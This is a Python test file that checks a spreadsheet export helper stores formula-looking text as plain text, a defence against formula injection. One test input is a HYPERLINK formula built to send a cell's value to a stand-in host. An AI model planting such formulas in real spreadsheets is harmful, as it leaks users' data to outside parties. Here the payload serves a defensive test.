"""Exports never write a formula: text that looks like one stays text (formula injection, issue #18 item 4)."""

from __future__ import annotations

import io

from openpyxl import Workbook, load_workbook

from qingshan.core import xlsx


def test_text_that_looks_like_a_formula_is_written_as_text():
    wb = Workbook()
    ws = xlsx.new_sheet(wb, "t", [("a", 10), ("b", 10)], first=True)
    evil = '=HYPERLINK("http://x.example/?leak="&B2,"查看佐证")'
    xlsx.append(ws, [evil, "=95%", "+1", "@SUM(A1)", 3, None])
    back = load_workbook(io.BytesIO(xlsx.to_bytes(wb)))["t"]
    cells = list(back.iter_rows(min_row=2, values_only=False))[0]
    assert [c.value for c in cells[:5]] == [evil, "=95%", "+1", "@SUM(A1)", 3]
    assert all(c.data_type != "f" for c in cells)
    assert cells[0].data_type == "s" and cells[4].data_type == "n"


def test_plain_openpyxl_would_have_written_a_formula():
    """The test above can fail: without the helper, openpyxl stores the same text as a formula."""
    wb = Workbook()
    wb.active.append(["=1+1"])
    back = load_workbook(io.BytesIO(xlsx.to_bytes(wb))).active
    assert back["A1"].data_type == "f"
